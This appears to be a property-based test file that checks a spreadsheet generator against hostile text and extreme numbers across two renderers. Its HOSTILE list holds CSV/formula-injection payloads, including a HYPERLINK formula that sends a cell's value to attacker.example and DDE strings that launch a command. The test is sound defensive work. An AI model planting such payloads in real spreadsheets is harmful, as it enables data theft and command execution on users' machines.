import ExcelJS from "exceljs";
import * as fc from "fast-check";
import { XMLValidator } from "fast-xml-parser";
import { bundledDataset } from "../../src/benchmarks/bundled";
import type { BenchmarkDataset } from "../../src/benchmarks/schema";
import { MAX_DESCRIPTION_LENGTH, MAX_NAME_LENGTH, MAX_SOURCE_LENGTH } from "../../src/scenario/fields";
import { isRelativeStep, TORNADO_INPUTS, type TornadoInput } from "../../src/core/tornado";
import { presetScenario } from "../../src/scenario/presets";
import { TORNADO_STEP_FIELDS } from "../../src/scenario/tornado";
import type { Scenario } from "../../src/scenario/types";
import { validateScenario } from "../../src/scenario/validate";
import { MAX_CELL_TEXT_LENGTH, parseCell } from "../../src/workbook/cell-text";
import { buildWorkbookPlan } from "../../src/workbook/plan";
import { isFormulaCell, type PlanCell, type SheetKey, type WorkbookPlan } from "../../src/workbook/plan-types";
import { renderPlanToWorkbook } from "../../src/workbook/render-office";
import { renderXlsx } from "../../src/workbook/render-xlsx";
import { asExcelContext, ExcelDouble } from "../helpers/excel-double";
import { evaluatePlan } from "../helpers/evaluate-plan";
import { readPackage } from "../workbook/charts-helpers";
import { scenarioArbitrary } from "../scenario/arbitrary";

/**
 * Issue 16: workbooks written from generated scenarios with hostile text and extreme numbers, through both renderers.
 * Every XML part of the .xlsx parses, no cell holds NaN or Infinity, no formula contains user text, text fits a cell,
 * and the master check is what the core says.
 */

/** Texts that have broken files or spreadsheets: XML-illegal characters, formula injection, escapes, bidi, emoji. */
const HOSTILE = [
  '=HYPERLINK("http://attacker.example/?x="&A1,"Click")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3",
  "\t=1+1",
  "\uFF1D1+1",
  "a\uFFFEb",
  "\uFFFF",
  "x\u0000y\u0001\u0008\u000b\u000c\u001f",
  "lone \ud800 high",
  "lone \udc00 low",
  "_x0041_ and _x0000_",
  "]]><?xml?><!-- &amp; &#0; <b>",
  "\u202eevil\u202c \u2067rtl\u2069 שלום مرحبا",
  "😀🚀👩‍💻 emoji",
  "&P &N &D &&",
  "'quoted",
  "#N/A",
  "\r\n\u2028\u2029",
] as const;

const piece = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...HOSTILE) },
  { weight: 1, arbitrary: fc.string({ unit: "binary", maxLength: 20 }) },
);

/** Text of at most `max` characters, sometimes exactly `max`: hostile pieces, repeated to the limit. */
const hostileText = (max: number) =>
  fc.tuple(fc.array(piece, { minLength: 1, maxLength: 4 }), fc.boolean()).map(([parts, fill]) => {
    const joined = parts.join(" ");
    return (fill ? joined.repeat(Math.ceil(max / Math.max(1, joined.length))) : joined).slice(0, max);
  });

/** The ends of every bounded input and a few values between. */
const extremes = <T>(...values: T[]) => fc.constantFrom(...values);

/** The risk spreads' fields and the largest value each field takes. */
const SPREAD_FIELDS = [
  ["riskGrowthBelow", 1],
  ["riskGrowthAbove", 1],
  ["riskTerminalGrowthBelow", 1],
  ["riskTerminalGrowthAbove", 1],
  ["riskMarginBelow", 1],
  ["riskMarginAbove", 1],
  ["riskCapexBelow", 1],
  ["riskCapexAbove", 10],
] as const;

/**
 * How far a tornado step or a risk spread reaches: not at all, a little, to its field's maximum, or for a tornado step
 * to the edge of what the core accepts (a rate moved to a hair above -100%, where (1 + r)^k underflows over a long
 * horizon). The edge is where a step that validation passed made an Infinity NPV (issue 16).
 */
type Reach = "zero" | "small" | "max" | "edge";
const reach = fc.constantFrom<Reach>("zero", "small", "max", "edge");

function tornadoStep(input: TornadoInput, value: number, how: Reach): number {
  if (how === "zero") return 0;
  if (how === "small") return 0.05;
  if (how === "max" || isRelativeStep(input) || input === "margin") return 1;
  // 1 + r times (1 - 2^-40): the low end is -1 + (1 + r) · 9e-13, above -100% but (9e-13)^26 is below the smallest double.
  return Math.min(1, (1 + value) * (1 - 2 ** -40));
}

function spread(max: number, how: Reach): number {
  return how === "zero" ? 0 : how === "small" ? 0.05 : max;
}

/** The generated steps and spreads on a scenario: each tornado step for its input's value, each spread as chosen. */
function withReaches(scenario: Scenario, steps: readonly Reach[], spreads: readonly Reach[]): Scenario {
  const moved: Record<string, number> = {};
  TORNADO_INPUTS.forEach((input, i) => {
    moved[TORNADO_STEP_FIELDS[input]] = tornadoStep(input, scenario[input], steps[i]);
  });
  SPREAD_FIELDS.forEach(([field, max], i) => (moved[field] = spread(max, spreads[i])));
  return { ...scenario, ...moved };
}

const hostileScenario: fc.Arbitrary<Scenario> = fc
  .record({
    base: scenarioArbitrary,
    name: hostileText(MAX_NAME_LENGTH - 1),
    description: hostileText(MAX_DESCRIPTION_LENGTH),
    fxSource: hostileText(MAX_SOURCE_LENGTH),
    baseRevenueSource: hostileText(MAX_SOURCE_LENGTH),
    extreme: fc.boolean(),
    capexTotal: extremes(0, 1e-3, 380, 1e6),
    baseRevenue: extremes(0, 1e-3, 100, 1e6),
    growth: extremes(-0.99, 0, 0.3, 10),
    terminalGrowth: extremes(-0.99, 0, 10),
    baselineGrowth: extremes(-0.99, 0, 10),
    discountRate: extremes(-0.5, 0, 1),
    fx: extremes(1e-3, 7.17, 1e4),
    horizon: extremes(1, 50),
    steps: fc.array(reach, { minLength: TORNADO_INPUTS.length, maxLength: TORNADO_INPUTS.length }),
    spreads: fc.array(reach, { minLength: SPREAD_FIELDS.length, maxLength: SPREAD_FIELDS.length }),
  })
  .map((r): Scenario => {
    // A name must not be blank: "S" first keeps it a name whatever follows.
    const texts = {
      name: `S${r.name}`,
      description: r.description,
      fxSource: r.fxSource,
      baseRevenueSource: r.baseRevenueSource,
    };
    if (!r.extreme) return withReaches({ ...r.base, ...texts }, r.steps, r.spreads);
    const capexYears = Math.min(r.base.capexYears, r.horizon);
    const weights = r.base.customWeights?.slice(0, capexYears);
    const scenario: Scenario = {
      ...r.base,
      ...texts,
      horizon: r.horizon,
      capexYears,
      ...(r.base.profile === "custom" ? { customWeights: weights } : {}),
      targetPaybackYears: Math.min(r.base.targetPaybackYears, r.horizon),
      capexTotal: r.capexTotal,
      baseRevenue: r.baseRevenue,
      growth: r.growth,
      terminalGrowth: r.terminalGrowth,
      baselineGrowth: r.baselineGrowth,
      discountRate: r.discountRate,
      fx: r.fx,
    };
    return withReaches(scenario, r.steps, r.spreads);
  });

const STEP_AND_SPREAD_FIELDS: ReadonlySet<string> = new Set([
  ...Object.values(TORNADO_STEP_FIELDS),
  ...SPREAD_FIELDS.map(([field]) => field),
]);

/**
 * The scenario as the user can build it. Validation may refuse a step or a spread that takes its input where the
 * model cannot go (below -100%, past what a double holds), and must refuse nothing else of these scenarios: each
 * refused step or spread is set to 0 and the rest checked again (validation checks the tornado only once the risk
 * spreads pass), until it passes.
 */
function buildable(scenario: Scenario): Scenario {
  let current = scenario;
  for (let round = 0; round < STEP_AND_SPREAD_FIELDS.size + 1; round++) {
    const issues = validateScenario(current);
    if (issues.length === 0) return current;
    expect(issues.filter((issue) => !STEP_AND_SPREAD_FIELDS.has(issue.field))).toEqual([]);
    current = { ...current, ...Object.fromEntries(issues.map((issue) => [issue.field, 0])) };
  }
  throw new Error("validation kept refusing steps and spreads of 0");
}

/** Issue 16's own case: a discount rate of -50% moved down by 0.4999999 over 50 years made an Infinity NPV. */
const INFINITE_SWING: Scenario = {
  ...presetScenario("base"),
  // Texts of no words a formula holds, and few trials: the preset's 1,000 over 50 years take a minute to lay out.
  name: "S",
  description: "",
  fxSource: "",
  baseRevenueSource: "",
  riskTrials: 3,
  horizon: 50,
  discountRate: -0.5,
  tornadoDiscountRateStep: 0.4999999,
};

/** A downloaded dataset is text from outside too: hostile title, version and notes. */
function hostileDataset(text: string): BenchmarkDataset {
  const dataset = bundledDataset();
  return {
    ...dataset,
    title: `T${text}`,
    version: `v${text.slice(0, 40)}`,
    figures: dataset.figures.map((f, i) => (i % 7 === 0 ? { ...f, note: `N${text}`, publisher: `P${text}` } : f)),
  };
}

/** Texts of the user (and the dataset) long enough that finding one in a formula cannot be chance. */
function userTexts(scenario: Scenario, extra: string): string[] {
  return [scenario.name, scenario.description, scenario.fxSource, scenario.baseRevenueSource, extra]
    .flatMap((t) => t.split(/\s+/))
    .filter((t) => t.length >= 6);
}

// eslint-disable-next-line no-control-regex -- finding control characters is the point
const XML_ILLEGAL = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\ufffe\uffff]/;
const LONE_SURROGATE = /[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/;

function planCells(plan: WorkbookPlan): PlanCell[] {
  return plan.sheets.flatMap((s) => [
    ...s.blocks.flatMap((b) => b.cells.flat()),
    ...s.tables.flatMap((t) => [...t.headers, ...t.rows.flat()]),
  ]);
}

/** The plan's cell at `address` of a sheet. */
function cellAt(plan: WorkbookPlan, key: SheetKey, address: string): PlanCell | undefined {
  const { row, column } = parseCell(address);
  for (const block of plan.sheets.find((s) => s.key === key)?.blocks ?? []) {
    const anchor = parseCell(block.anchor);
    const cell = block.cells[row - anchor.row]?.[column - anchor.column];
    if (cell !== undefined) return cell;
  }
  return undefined;
}

/** Text as it appears escaped inside an XML part. */
function escapeXmlText(text: string): string {
  return text.replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/>/g, "&gt;").replace(/"/g, "&quot;");
}

async function checkXlsx(plan: WorkbookPlan, texts: readonly string[]): Promise<void> {
  const parts = await readPackage(new Uint8Array((await renderXlsx(plan, ExcelJS)) as ArrayBuffer));
  for (const name of parts.names.filter((n) => /\.(xml|rels)$/.test(n))) {
    const xml = await parts.text(name);
    const valid = XMLValidator.validate(xml);
    if (valid !== true) throw new Error(`${name} is not well-formed: ${JSON.stringify(valid)}`);
    if (XML_ILLEGAL.test(xml)) throw new Error(`${name} holds a character XML 1.0 forbids`);
    if (name.startsWith("xl/worksheets/")) {
      if (/<v>(NaN|-?Infinity)<\/v>/.test(xml)) throw new Error(`${name} caches NaN or Infinity`);
      const formulas = Array.from(xml.matchAll(/<f>([^<]*)<\/f>/g), (m) => m[1]).join("\n");
      const leaked = texts.find((text) => formulas.includes(escapeXmlText(text)));
      if (leaked !== undefined) throw new Error(`a formula in ${name} holds user text ${JSON.stringify(leaked)}`);
    }
  }
}

async function checkOffice(plan: WorkbookPlan, texts: readonly string[]): Promise<void> {
  const excel = new ExcelDouble();
  await excel.run((context) => renderPlanToWorkbook(asExcelContext(context), () => plan));
  const problems: string[] = [];
  for (const sheet of excel.model.sheets) {
    for (const [address, cell] of sheet.cells) {
      const where = `${sheet.name}!${address}`;
      if (typeof cell.value === "number" && !Number.isFinite(cell.value)) problems.push(`${where} holds ${cell.value}`);
      if (typeof cell.value === "string") {
        if (cell.value.length > MAX_CELL_TEXT_LENGTH) problems.push(`${where} is longer than a cell may be`);
        if (XML_ILLEGAL.test(cell.value) || LONE_SURROGATE.test(cell.value)) problems.push(`${where}: illegal text`);
      }
      const formula = cell.formula;
      if (formula !== null && texts.some((t) => formula.includes(t))) problems.push(`${where}: user text in formula`);
    }
  }
  expect(problems).toEqual([]);
}

describe("workbooks from hostile scenarios and datasets", () => {
  test("are well-formed and finite in both renderers, text stays text, and the master check is the core's", async () => {
    await fc.assert(
      fc.asyncProperty(hostileScenario, hostileText(2000), async (scenario, datasetText) => {
        const plan = buildWorkbookPlan(buildable(scenario), hostileDataset(datasetText));
        const values = planCells(plan).map((cell) => (isFormulaCell(cell) ? cell.value : cell));
        expect(values.filter((v) => typeof v === "number" && !Number.isFinite(v))).toEqual([]);
        // The master check (Checks!C2) as the core computed it, and as the sheet's formulas compute it.
        const master = cellAt(plan, "checks", "C2");
        expect(master !== undefined && isFormulaCell(master) && master.value).toBe(true);
        expect(evaluatePlan(plan).value("checks", "C2")).toBe(true);
        const texts = userTexts(scenario, datasetText);
        await checkXlsx(plan, texts);
        await checkOffice(plan, texts);
      }),
      // About 3 s a workbook on a shared machine: 20 runs keep the test near a minute.
      { numRuns: 20, endOnFailure: true, examples: [[INFINITE_SWING, "dataset"]] },
    );
  }, 300_000);
});
